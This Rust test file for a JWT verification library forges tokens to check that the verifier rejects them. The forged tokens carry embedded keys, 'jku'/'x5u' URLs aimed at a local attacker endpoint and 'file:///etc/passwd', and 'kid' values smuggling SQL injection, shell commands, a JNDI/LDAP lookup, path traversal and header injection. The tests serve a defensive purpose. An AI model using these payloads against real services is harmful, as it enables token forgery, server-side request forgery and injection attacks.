//! Tokens that contain their key or its address, and `kid` values that inject into a lookup.

use aws_lc_rs::hmac;
use serde_json::{Value, json};
use tower_clerk::verify::VerifyErrorKind::{
    InvalidIssuer, InvalidKeyId, InvalidSignature, UnknownKey, UnsupportedAlgorithm,
};

use super::{
    forge::{
        KID, authenticated, certificate, good, header, jwks, jwks_of, message, payload, stranger, trusted, with,
        without,
    },
    servers::Endpoint,
    table::{Class, Row, rows as table, verifier_at},
    targets::Targets,
};

pub(crate) fn rows(evil: &str) -> Vec<Row> {
    [with_key_material(evil), with_addresses(evil), with_injecting_kids(evil)].into_iter().flatten().collect()
}

#[tokio::test]
async fn key_material_in_a_token_is_ignored() {
    let evil = evil().await;
    Targets::start(&jwks()).await.check(&with_key_material(&evil.authority())).await;
    assert_eq!(evil.connections().await, 0);
}

#[tokio::test]
async fn addresses_in_a_token_are_not_fetched() {
    let evil = evil().await;
    Targets::start(&jwks()).await.check(&with_addresses(&evil.authority())).await;
    assert_eq!(evil.connections().await, 0);
}

#[tokio::test]
async fn a_kid_is_only_compared() {
    let evil = evil().await;
    Targets::start(&jwks()).await.check(&with_injecting_kids(&evil.authority())).await;
    assert_eq!(evil.connections().await, 0);
}

/// Otherwise the missing connections to the attacker's endpoint would prove nothing.
#[tokio::test]
async fn the_attackers_endpoint_works_and_counts_connections() {
    let evil = evil().await;
    assert!(verifier_at(&evil).verify(&stranger().sign(&header(), &payload())).await.is_ok());
    assert_eq!(evil.connections().await, 1);
}

/// Serves the attacker's key under every `kid` of the forged tokens.
async fn evil() -> Endpoint {
    Endpoint::serve(jwks_of(&[stranger().jwk(KID), stranger().jwk("ins_stranger")]).to_string()).await
}

fn with_key_material(evil: &str) -> Vec<Row> {
    let url = format!("http://{evil}/.well-known/jwks.json");
    let own = stranger().jwk("ins_stranger");
    let chain = json!([certificate()]);
    let members: Vec<(&str, Value)> = vec![
        ("jku", json!(url)),
        ("jku", json!(format!("http://clerk.test.example@{evil}/jwks.json"))),
        ("jku", json!(format!("http://clerk.test.example:443@{evil}/jwks.json"))),
        ("jku", json!(format!("{url}#https://clerk.test.example/.well-known/jwks.json"))),
        ("jku", json!(format!("{url}?https://clerk.test.example"))),
        ("jku", json!(format!("//{evil}/jwks.json"))),
        ("jku", json!([url])),
        ("jku", json!("file:///etc/passwd")),
        ("jku", json!(format!("data:application/json,{}", jwks_of(&[stranger().jwk(KID)])))),
        ("x5u", json!(format!("http://{evil}/stranger.crt"))),
        ("x5u", json!("file:///etc/ssl/certs/ca-certificates.crt")),
        ("jwk", own.clone()),
        ("jwk", stranger().jwk(KID)),
        ("jwk", json!(own.to_string())),
        ("jwks", jwks_of(&[stranger().jwk(KID)])),
        ("keys", json!([stranger().jwk(KID)])),
        ("x5c", chain.clone()),
        ("x5c", chain[0].clone()),
        ("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA")),
        ("epk", own),
    ];
    let mut rows = Vec::new();
    for (name, value) in members {
        let header = with(header(), name, &value);
        let neighbour = trusted().sign(&header, &payload());
        let forged = |header: &Value| stranger().sign(header, &payload());
        let attacks = [
            (format!("{name}: {value}"), forged(&header), InvalidSignature),
            (format!("{name}, own kid"), forged(&with(header.clone(), "kid", "ins_stranger")), UnknownKey),
            (format!("{name}, no kid"), forged(&without(header, "kid")), InvalidKeyId),
        ];
        rows.extend(table(Class::EmbeddedKey, &neighbour, attacks));
    }
    rows
}

fn with_addresses(evil: &str) -> Vec<Row> {
    let url = format!("http://{evil}");
    let (unknown, from_evil) = (with(header(), "kid", "ins_stranger"), with(payload(), "iss", &url));
    let named = |kid: &str| stranger().sign(&with(header(), "kid", kid), &from_evil);
    let in_header = with(header(), "iss", &url);
    let in_payload = with(with(payload(), "jku", &url), "jwks_uri", format!("{url}/jwks"));
    let attacks = [
        ("iss, trusted kid", stranger().sign(&header(), &from_evil), InvalidSignature),
        ("iss, own kid", stranger().sign(&unknown, &from_evil), UnknownKey),
        ("iss, trusted key", trusted().sign(&header(), &from_evil), InvalidIssuer),
        (
            "iss with a slash, trusted key",
            trusted().sign(&header(), &with(payload(), "iss", format!("{url}/"))),
            InvalidIssuer,
        ),
        ("kid", named(&format!("{url}/keys/1")), UnknownKey),
        ("kid without scheme", named(&format!("//{evil}/keys/1")), UnknownKey),
        ("kid of a share", named(&format!(r"\\{evil}\keys\1")), UnknownKey),
        ("kid of JNDI", named(&format!("${{jndi:ldap://{evil}/a}}")), UnknownKey),
        ("iss in the header", stranger().sign(&in_header, &payload()), InvalidSignature),
        ("addresses in the payload", stranger().sign(&header(), &in_payload), InvalidSignature),
    ];
    table(Class::KeyAddress, &trusted().sign(&in_header, &in_payload), attacks)
}

fn with_injecting_kids(evil: &str) -> Vec<Row> {
    let (upper, nul) = (KID.to_uppercase(), format!("{KID}\u{0}"));
    let (spaced, quoted, path, list) =
        (format!("{KID} "), format!("\"{KID}\""), format!("./{KID}"), format!("{KID},ins_stranger"));
    let (jndi, long) = (format!("${{jndi:ldap://{evil}/a}}"), "k".repeat(255));
    let mut attacks = Vec::new();
    for kid in [
        "../../../../../../dev/null",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "file:///dev/null",
        "..%2f..%2fdev%2fnull",
        "x' UNION SELECT 'secret'-- -",
        "' OR '1'='1",
        "| sleep 5 #",
        "$(sleep 5)",
        "`sleep 5`",
        "; sleep 5",
        "{{7*7}}",
        "%s%s%n",
        "__proto__",
        "constructor",
        "undefined",
        "null",
        "0",
        "*",
        "ins_*",
        "\u{0}",
        "\r\nx-injected: 1",
        &jndi,
        &upper,
        &nul,
        &spaced,
        &quoted,
        &path,
        &list,
        &long,
    ] {
        let named = with(header(), "kid", kid);
        attacks.push((format!("{kid:?} by a stranger"), stranger().sign(&named, &payload()), UnknownKey));
        // A token with another `kid` is rejected even if the trusted key signed it.
        attacks.push((format!("{kid:?} by the trusted key"), trusted().sign(&named, &payload()), UnknownKey));
        let unsigned = message(with(named, "alg", "HS256").to_string(), payload().to_string());
        let keyed = authenticated(&unsigned, hmac::HMAC_SHA256, b"");
        attacks.push((format!("{kid:?} with an empty secret"), keyed, UnsupportedAlgorithm));
    }
    for kid in [
        json!([KID]),
        json!({ "kid": KID }),
        json!(null),
        json!(0),
        json!(true),
        json!(""),
        json!("k".repeat(256)),
        json!("k".repeat(8 * 1024)),
    ] {
        let case = format!("{:.40}", kid.to_string());
        attacks.push((case, trusted().sign(&with(header(), "kid", kid), &payload()), InvalidKeyId));
    }
    let escaped = header().to_string().replace(KID, "\\u0069ns_trusted");
    let mut rows = table(Class::KidInjection, &trusted().sign_bytes(escaped, payload().to_string()), attacks);
    rows.extend(table(
        Class::KidInjection,
        &good(),
        [("no kid", trusted().sign(&without(header(), "kid"), &payload()), InvalidKeyId)],
    ));
    rows
}
